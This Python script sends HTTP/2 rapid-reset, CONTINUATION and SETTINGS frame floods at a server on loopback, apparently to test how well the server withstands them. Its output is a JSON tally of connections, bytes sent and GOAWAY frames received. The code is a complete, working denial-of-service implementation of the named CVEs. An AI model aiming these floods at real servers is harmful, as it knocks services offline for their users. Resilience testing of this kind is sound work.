#!/usr/bin/python3
"""HTTP/2 frame floods against a local h2c (prior knowledge) or h2 (TLS, ALPN) server.

  --kind rapid-reset   HEADERS (END_STREAM) immediately followed by RST_STREAM(CANCEL), new
                       stream ids without end (CVE-2023-44487)
  --kind continuation  one HEADERS without END_HEADERS, then CONTINUATION frames without end,
                       each a block of valid header fields (CVE-2024-27316 family)
  --kind settings      SETTINGS frames without end, never reading the server's ACKs

--conns connections run at once; one the server closes (GOAWAY, reset) is opened again, until
--duration ends. Frames are written in batches of about 16 KiB as fast as the socket takes them.
Loopback only. The last line on stdout is a JSON summary: connections opened, frames sent,
GOAWAY frames received (by error code), connections closed by the server.
"""
import argparse
import json
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


# :method GET, :scheme http/https, :path /, :authority 127.0.0.1 (literal without indexing,
# indexed name 1), all from the static table: no dynamic table state to keep in step.
def request_block(tls):
    return b"\x82" + (b"\x87" if tls else b"\x86") + b"\x84" + b"\x01\x09127.0.0.1"


class Flood:
    def __init__(self, a):
        self.a = a
        self.block = request_block(a.tls)
        self.stream = 1
        self.started = False

    def opening(self):
        self.stream = 1
        self.started = False
        return PREFACE + frame(4, 0, 0)          # empty SETTINGS

    def batch(self):
        out = []
        size = 0
        k = self.a.kind
        while size < 16384:
            if k == "rapid-reset":
                out.append(frame(1, 0x05, self.stream, self.block))          # END_STREAM|END_HEADERS
                out.append(frame(3, 0, self.stream, struct.pack(">I", 8)))   # RST_STREAM CANCEL
                self.stream += 2
                if self.stream >= 2**31 - 2:
                    return None
            elif k == "continuation":
                if not self.started:
                    out.append(frame(1, 0x01, 1, self.block))                # END_STREAM only
                    self.started = True
                out.append(frame(9, 0, 1, b"\x00\x06x-cont\x02vv" * 64))
            else:
                out.append(frame(4, 0, 0, struct.pack(">HI", 2, 0)))         # ENABLE_PUSH = 0
            size += len(out[-1])
        return b"".join(out)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--kind", choices=["rapid-reset", "continuation", "settings"], required=True)
    ap.add_argument("--conns", type=int, default=4)
    ap.add_argument("--duration", type=float, default=10)
    ap.add_argument("--tls", action="store_true", help="h2 over TLS (ALPN) instead of h2c")
    a = ap.parse_args()
    if not (1 <= a.conns <= 256 and 0 < a.duration <= 3600):
        sys.exit("h2flood: --conns must be 1..256, --duration 0..3600")
    read_replies = a.kind != "settings"
    ctx = None
    if a.tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])

    st = {"opened": 0, "frames_bytes": 0, "closed_by_server": 0, "goaway": {}, "connect_failures": 0}
    sel = selectors.DefaultSelector()
    end = time.monotonic() + a.duration

    def connect():
        try:
            s = socket.create_connection(("127.0.0.1", a.port), timeout=5)
            if ctx:
                s = ctx.wrap_socket(s, server_hostname="localhost")
                if s.selected_alpn_protocol() != "h2":
                    sys.exit("h2flood: the server did not select h2")
        except OSError:
            st["connect_failures"] += 1
            return
        s.setblocking(False)
        f = Flood(a)
        conn = {"sock": s, "flood": f, "out": f.opening(), "in": b""}
        events = selectors.EVENT_WRITE | (selectors.EVENT_READ if read_replies else 0)
        sel.register(s, events, conn)
        st["opened"] += 1

    def drop(conn, by_server):
        sel.unregister(conn["sock"])
        conn["sock"].close()
        if by_server:
            st["closed_by_server"] += 1

    def parse(conn):
        buf = conn["in"]
        while len(buf) >= 9:
            n = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + n:
                break
            if buf[3] == 7 and n >= 8:
                code = str(int.from_bytes(buf[13:17], "big"))
                st["goaway"][code] = st["goaway"].get(code, 0) + 1
            buf = buf[9 + n:]
        conn["in"] = buf

    for _ in range(a.conns):
        connect()
    while time.monotonic() < end:
        for _ in range(a.conns - len(sel.get_map())):
            connect()
        for key, ev in sel.select(0.05):
            conn = key.data
            s = conn["sock"]
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(65536)
                    if not data:
                        drop(conn, True)
                        continue
                    conn["in"] += data
                    parse(conn)
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    drop(conn, True)
                    continue
            if ev & selectors.EVENT_WRITE:
                if not conn["out"]:
                    b = conn["flood"].batch()
                    if b is None:         # stream ids used up: start a new connection
                        drop(conn, False)
                        continue
                    conn["out"] = b
                try:
                    n = s.send(conn["out"])
                    st["frames_bytes"] += n
                    conn["out"] = conn["out"][n:]
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    drop(conn, True)
    st["open_at_end"] = len(sel.get_map())
    for key in list(sel.get_map().values()):
        drop(key.data, False)
    print(json.dumps(st))


if __name__ == "__main__":
    main()
